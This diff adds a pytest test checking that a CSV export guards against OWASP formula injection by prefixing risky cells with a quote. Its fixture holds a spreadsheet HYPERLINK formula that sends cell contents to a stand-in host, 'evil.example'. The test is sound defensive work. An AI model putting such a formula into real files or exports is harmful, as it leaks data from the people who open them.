@@ -18,6 +18,7 @@ from PIL import Image
 
 from balance.cli.history import EXPORT_COLUMNS, add_commands, add_save_options, save_analysis, save_from_args
 from balance.errors import StoreError
+from balance.spreadsheet import safe_cell
 
 from .test_progress import LEFT_AFTER, LEFT_BEFORE, RIGHT, START, half_document
 from .test_store import real_document, relabel
@@ -156,3 +157,29 @@ def test_wrong_names_files_and_options_are_one_line_errors(tmp_path: Path, capsy
     ):
         with pytest.raises(SystemExit):
             parser().parse_args(argv)
+
+
+def test_csv_export_neutralises_formulas_but_keeps_numbers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """CSV injection (OWASP): text starting with = + - @ tab or CR opens as text, not as a formula."""
+    db = tmp_path / "h.db"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    save_analysis(
+        real_document(),
+        name=evil,
+        week=1,
+        db=db,
+        recorded_on=START,
+        surface="+1+1",
+        footwear="@SUM(A1:A9)",
+        notes="-2+3",
+    )
+    out = tmp_path / "evil.csv"
+    run(capsys, "export", evil, "--csv", out, "--db", db)
+    [row] = list(csv.DictReader(out.open()))
+    assert row["person"] == "'" + evil
+    assert (row["surface"], row["footwear"], row["notes"]) == ("'+1+1", "'@SUM(A1:A9)", "'-2+3")
+    assert float(row["sway_velocity"]) > 0 and float(row["hold_s"]) > 0  # numbers stay numbers
+    assert row["date"] == START.isoformat() and row["leg"] == "left"
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(f"{start}cmd") == f"'{start}cmd"
+    assert (safe_cell("Sam"), safe_cell(-1.5), safe_cell(None), safe_cell("a=b")) == ("Sam", -1.5, None, "a=b")
